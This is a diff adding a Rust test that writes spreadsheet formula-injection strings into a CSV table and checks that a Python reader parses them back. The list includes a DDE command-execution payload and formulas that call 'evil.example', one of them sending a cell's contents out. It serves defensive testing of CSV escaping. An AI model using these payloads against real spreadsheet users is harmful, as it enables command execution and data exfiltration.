@@ -76,3 +76,47 @@ proptest! {
         }
     }
 }
+
+/// What a spreadsheet would calculate, fetch or run.
+const FORMULAS: [&str; 12] = [
+    "=1+1",
+    "=cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+    "+44 7700 900123",
+    "-2+3",
+    "\t=1+1",
+    "\r\n=1+1",
+    " =HYPERLINK(\"https://evil.example\",\"x\")",
+    "\u{feff}=1+1",
+    "＝1+1",
+    "\"=1+1",
+    "=WEBSERVICE(\"https://evil.example/\"&A1)",
+];
+
+/// Python reads it, where it is installed. With `UNLISTED_KEEP=FILE` the table is left there, to be opened in a spreadsheet by hand.
+#[test]
+fn another_reader_reads_it() {
+    let mut all = String::new();
+    let mut rows = 0;
+    for formula in FORMULAS {
+        let text = table(&filled(formula, formula));
+        let body = text.split_once("\r\n").expect("a head").1;
+        rows += read(&text).len() - 1;
+        if all.is_empty() {
+            all.push_str(&text);
+        } else {
+            all.push_str(body);
+        }
+    }
+    let kept = std::env::var_os("UNLISTED_KEEP").map(std::path::PathBuf::from);
+    let file = kept.clone().unwrap_or_else(|| std::env::temp_dir().join(format!("unlisted-table-{}.csv", std::process::id())));
+    std::fs::write(&file, &all).expect("a file");
+    let tool = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../../tests/tools/read_csv.py");
+    let python = std::env::var_os("UNLISTED_PYTHON").unwrap_or_else(|| "python3".into());
+    let ran = std::process::Command::new(python).arg(tool).arg(&file).arg((rows + 1).to_string()).output();
+    if kept.is_none() {
+        std::fs::remove_file(&file).expect("it was made");
+    }
+    let Ok(ran) = ran else { return };
+    assert!(ran.status.success(), "{}", String::from_utf8_lossy(&ran.stderr));
+}
